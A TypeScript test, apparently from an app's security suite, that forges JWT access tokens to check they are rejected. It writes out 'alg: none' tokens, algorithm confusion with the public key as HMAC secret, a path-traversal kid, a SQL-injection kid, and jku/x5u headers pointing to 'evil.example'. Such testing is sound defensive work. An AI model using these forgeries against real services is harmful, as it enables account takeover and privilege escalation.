import { generateKeyPairSync } from 'node:crypto'
import { SignJWT } from 'jose'
import { defineAttack } from '../support/attack.ts'
import { signInApp, TOKENS, whoBears } from '../support/tokens.ts'

const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')

export default defineAttack({
  id: 'A165',
  title: 'forges an access token: no algorithm, the public key as a secret, a key of its own, a path as key (L97, L99)',
  control: 'accessTokens',
  adapters: 'all',
  options: TOKENS,
  without: {
    heldBy: 'design',
    why: 'the algorithm belongs to the key and keys come from the database; no option listens to a token',
  },
  async succeeds(app) {
    await app.signIn('admin', 'root')
    await app.signIn('member', 'eve')
    const root = await signInApp(app, 'root')
    const eve = await signInApp(app, 'eve')
    if ((await whoBears(app, eve.access_token)) !== 'eve') throw new Error('The tokens do not work at all.')
    const [head, body, signature] = eve.access_token.split('.') as [string, string, string]
    const header = JSON.parse(Buffer.from(head, 'base64url').toString()) as { kid: string; alg: string; typ: string }
    const own = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>
    const wanted = { ...own, ...(JSON.parse(Buffer.from(root.access_token.split('.')[1]!, 'base64url').toString()) as object) }
    const jwks = JSON.parse((await app.fetch('/.well-known/jwks.json')).text) as { keys: { x: string }[] }
    const pair = generateKeyPairSync('ed25519')
    const jwk = pair.publicKey.export({ format: 'jwk' })
    const hmac = (key: string | Buffer, more = {}) =>
      new SignJWT(wanted).setProtectedHeader({ ...header, ...more, alg: 'HS256' }).sign(Buffer.from(key))
    const signed = (more: object) => new SignJWT(wanted).setProtectedHeader({ ...header, ...more } as never).sign(pair.privateKey)
    const forged = [
      `${encode({ ...header, alg: 'none' })}.${encode(wanted)}.`,
      `${encode({ ...header, alg: 'None' })}.${encode(wanted)}.${signature}`,
      `${head}.${encode(wanted)}.${signature}`,
      await hmac(JSON.stringify(jwks.keys[0])),
      await hmac(Buffer.from(jwks.keys[0]!.x, 'base64url')),
      await hmac(' '.repeat(32)),
      await hmac(Buffer.alloc(32), { kid: '../../../dev/null' }),
      await signed({}),
      await signed({ jwk }),
      await signed({ kid: undefined }),
      await signed({ kid: "' UNION SELECT 'x" }),
      await signed({ jku: 'https://evil.example/jwks.json' }),
      await signed({ x5u: 'https://evil.example/cert.pem' }),
    ]
    for (const one of forged) if ((await whoBears(app, one)) !== null) return true
    return false
  },
})
